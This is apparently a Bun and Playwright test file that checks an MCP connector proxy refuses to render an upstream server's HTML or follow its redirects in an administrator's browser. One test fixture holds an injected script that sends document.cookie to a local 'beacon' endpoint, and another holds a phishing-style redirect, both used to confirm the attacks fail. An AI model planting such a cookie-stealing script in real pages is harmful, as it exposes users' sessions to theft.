import { afterAll, beforeAll, expect, test } from "bun:test";
import type { Browser } from "playwright-core";
import { scriptedServer } from "../peers/scripted-server";
import { authHeader } from "../support/api";
import { connectedConnector, proxyUrl } from "../support/mcp";
import { ADMIN, startTestService, type TestService } from "../support/service";
import { CHROMIUM, chromiumAvailable as available, launchChromium } from "../support/chromium";

// In a browser: an administrator opens a connector's proxy URL as a page (a link in a chat, say)
// while its server answers GET with HTML and a script. The script must not run on the service's origin, and a
// redirect must not take the browser elsewhere. Headless Chromium (Debian's), the service and the server on loopback.
if (!available)
  console.warn(`SKIPPED: the proxy browser test needs ${CHROMIUM} (Debian package "chromium"), which is not installed`);

let service: TestService;
let upstream: ReturnType<typeof Bun.serve>;
let browser: Browser;
let id: string;
/** What the server answers a GET with, as the test sets it. */
let get: () => Response = () => new Response(null, { status: 405 });
/** Requests the page's script (or a redirect) made to the server's /beacon. */
const beacons: string[] = [];

beforeAll(async () => {
  if (!available) return;
  const mcp = scriptedServer();
  upstream = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(request) {
      const url = new URL(request.url);
      if (url.pathname.startsWith("/beacon")) {
        beacons.push(url.pathname + url.search);
        return new Response("ok", { headers: { "access-control-allow-origin": "*" } });
      }
      return request.method === "GET" ? get() : mcp.handler(request);
    },
  });
  service = await startTestService();
  id = await connectedConnector(service.api, `http://127.0.0.1:${upstream.port}/mcp`);
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  if (!available) return;
  await browser?.close();
  await service?.stop();
  upstream?.stop(true);
});

/** Opens the proxy URL as the administrator would (Basic credentials), lets any script run, then reports. */
async function open() {
  const context = await browser.newContext({ extraHTTPHeaders: { authorization: authHeader(ADMIN) } });
  try {
    const page = await context.newPage();
    const ran: string[] = [];
    page.on("console", (m) => ran.push(m.text()));
    const response = await page.goto(proxyUrl(service, id));
    await page.waitForTimeout(300);
    return {
      status: response?.status(),
      url: page.url(),
      title: await page.title(),
      text: await page.evaluate(() => document.body?.innerText ?? ""),
      ran,
    };
  } finally {
    await context.close();
  }
}

test.skipIf(!available)("an upstream's HTML with a script is never rendered or run on the service's origin", async () => {
  const beacon = `http://127.0.0.1:${upstream.port}/beacon`;
  get = () =>
    new Response(
      `<!doctype html><title>owned</title><body>hello<script>console.log("script ran on " + location.origin); fetch(${JSON.stringify(beacon)} + "?cookie=" + encodeURIComponent(document.cookie), { mode: "no-cors" })</script>`,
      { headers: { "content-type": "text/html; charset=utf-8" } },
    );
  const seen = await open();
  expect(seen.status).toBe(502);
  expect(seen.title).not.toBe("owned");
  expect(seen.ran.filter((line) => line.startsWith("script ran"))).toEqual([]);
  expect(seen.text).toContain("only JSON (application/json, application/*+json) and text/event-stream are relayed");
  expect(beacons).toEqual([]);
});

test.skipIf(!available)("an upstream's redirect does not move the browser", async () => {
  get = () => new Response(null, { status: 302, headers: { location: `http://127.0.0.1:${upstream.port}/beacon/phish` } });
  const seen = await open();
  expect(seen.status).toBe(502);
  expect(seen.url).toBe(proxyUrl(service, id));
  expect(beacons).toEqual([]);
});
